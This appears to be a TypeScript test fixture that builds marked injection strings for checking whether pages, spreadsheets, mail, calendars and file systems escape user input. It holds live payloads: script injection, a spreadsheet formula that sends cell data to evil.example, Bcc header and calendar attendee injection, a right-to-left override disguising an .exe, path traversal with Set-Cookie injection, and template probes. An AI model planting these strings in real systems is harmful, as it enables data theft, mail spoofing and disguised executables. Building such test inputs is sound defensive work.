/** Words that a page, spreadsheet, mail, calendar or file system would take for more than words; each holds a mark. */

/** `WORDS` are those that any field may be given; the others are for one place each. */
export function hostileWords(mark: string) {
  const SCRIPT = `"><img src=x onerror=alert(1)></script><script>alert('${mark}')</script>`;
  const FORMULA = `=HYPERLINK("http://evil.example/?q="&A1,"${mark}")`;
  const HEADER = `${mark}\r\nBcc: eve@evil.example\r\n\r\n<b>x</b>`;
  const CALENDAR = `${mark}\r\nATTENDEE:mailto:eve@evil.example;X=1\\n,"`;
  const DIRECTION = `\u202egnp.${mark}\u2066.exe`;
  const PATH = `../../${mark}";x="/..\\evil\r\nSet-Cookie: a=b.txt`;
  const TEMPLATE = `{{firstName}} \${7*7} {{{html}}} ${mark} %0d%0aBcc:eve@evil.example`;
  const WORDS = [FORMULA, `${mark} ${SCRIPT}`, HEADER, DIRECTION, `@SUM(${mark})`, `+${mark}`];
  return { SCRIPT, FORMULA, HEADER, CALENDAR, DIRECTION, PATH, TEMPLATE, WORDS };
}
